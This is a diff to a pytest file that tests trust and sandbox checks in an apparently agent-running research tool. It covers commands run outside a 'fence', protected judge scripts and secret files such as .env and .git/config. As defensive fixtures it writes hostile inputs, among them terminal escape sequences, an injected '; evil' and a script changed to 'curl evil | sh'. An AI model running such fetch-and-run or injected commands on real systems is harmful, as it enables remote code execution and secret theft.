@@ -9,7 +9,7 @@ from typing import Any
 
 import pytest
 
-from loop import stranger
+from loop import config, stranger
 from loop.cli import new_repository
 from loop.errors import UsageError
 from loop.records.repository import Repository
@@ -73,11 +73,26 @@ def test_a_prepare_py_that_is_not_ours_is_asked_about(
         shutil.rmtree(tmp_path / "new/nanogpt")
         shutil.copytree(ROOT / "nanogpt", tmp_path / "new/nanogpt")
     found = wishes(tmp_path / "new", memory)
+    files = "(with its files as they are now)"
     assert list(map(str, found.open)) == [
-        "prepare_command runs `{python} nanogpt/prepare.py` outside the fence, with network",
-        "judge_command runs `{python} nanogpt/judge.py` outside the fence after each training",
+        f"prepare_command runs `{{python}} nanogpt/prepare.py` outside the fence, with network {files}",
+        f"judge_command runs `{{python}} nanogpt/judge.py` outside the fence after each training {files}",
         "answers_command runs `{python} nanogpt/answers.py` with each saved model",
     ]
+
+
+@pytest.mark.parametrize("name", ["judge.py", "proofs.py", "prepare.py"])
+def test_what_runs_outside_the_fence_is_not_what_agents_edit(tmp_path: Path, memory: Path, name: str) -> None:
+    """The judge runs from the candidate's commit: a candidate that may change it is behind no fence."""
+    new_repository.create(tmp_path / "new")
+    with (tmp_path / "new/autoresearch.toml").open("a") as file:
+        file.write(f'\neditable = ["nanogpt/{name}"]\n')
+    with pytest.raises(UsageError, match=f"`editable` nanogpt/{name} runs outside the fence"):
+        wishes(tmp_path / "new", memory)
+    repository = Repository.discover(tmp_path / "new")
+    settings = config.load(repository, repository.head(), {"editable": ["nanogpt/evaluation.py"]}, {})
+    repository.close()
+    assert (settings.prepare_command, settings.judge_command) == ([], [])
 
 
 def test_what_is_agreed_to_is_not_asked_again_and_what_is_new_is(repository: Path, memory: Path) -> None:
@@ -151,6 +166,20 @@ def test_a_program_that_leads_out_of_the_repository_is_asked_about(
     assert wishes(repository, memory).every == []
 
 
+@pytest.mark.parametrize("name", [".git/config", ".env", "link.md"])
+def test_a_file_that_did_not_come_with_the_repository_goes_to_no_agent_unasked(
+    repository: Path, memory: Path, name: str
+) -> None:
+    (repository / ".env").write_text("KEY=mine")
+    (repository / "link.md").symlink_to(".git/config")
+    git(repository, "add", "link.md")
+    git(repository, "commit", "-qm", "a link")
+    asks(repository, f'program = "{name}"')
+    assert [wish.name for wish in wishes(repository, memory).open] == ["program"]
+    asks(repository, 'program = "train.py"')
+    assert wishes(repository, memory).every == []
+
+
 @pytest.mark.parametrize(("agent", "asked"), [("claude", []), ("search", []), ("acp", ["program"])])
 def test_a_cli_agent_obeys_the_program_of_a_stranger_only_once_it_is_trusted(
     repository: Path, memory: Path, agent: str, asked: list[str]
@@ -160,11 +189,30 @@ def test_a_cli_agent_obeys_the_program_of_a_stranger_only_once_it_is_trusted(
     assert [wish.name for wish in found.open] == asked
 
 
-def test_what_is_shown_of_a_wish_cannot_steer_a_terminal(repository: Path, memory: Path) -> None:
-    asks(repository, r'prepare_command = ["sh", "\u001b]0;x\u0007\u202e\n' + "y" * 900 + '"]')
+def test_what_is_shown_of_a_wish_cannot_steer_a_terminal_and_is_all_of_it(
+    repository: Path, memory: Path
+) -> None:
+    asks(repository, r'prepare_command = ["sh", "-c", "\u001b]0;x\u0007\u202e\n' + "y" * 1900 + '; evil"]')
     shown = str(wishes(repository, memory).open[0])
     assert shown.isprintable()
-    assert len(shown) < 300
+    assert "runs `sh -c 'yyy" in shown
+    assert shown.endswith("yyy; evil'` outside the fence, with network")
+
+
+def test_what_is_too_long_to_be_shown_cannot_be_agreed_to(repository: Path, memory: Path) -> None:
+    asks(repository, 'prepare_command = ["sh", "-c", "' + "echo ok; " * 300 + 'evil"]')
+    with pytest.raises(UsageError, match=r"`prepare_command` in autoresearch\.toml has more than 2,000"):
+        wishes(repository, memory)
+
+
+def test_a_command_whose_file_has_changed_is_asked_about_again(repository: Path, memory: Path) -> None:
+    (repository / "get.sh").write_text("curl data")
+    asks(repository, 'prepare_command = ["sh", "get.sh"]\ntrain_command = ["sh", "go.sh"]')
+    stranger.remember(wishes(repository, memory).accepted(), memory)
+    (repository / "go.sh").write_text("behind the fence")
+    assert wishes(repository, memory).open == []
+    (repository / "get.sh").write_text("curl evil | sh")
+    assert [wish.name for wish in wishes(repository, memory).open] == ["prepare_command"]
 
 
 def test_wrong_settings_are_refused_and_not_asked_about(repository: Path, memory: Path) -> None:
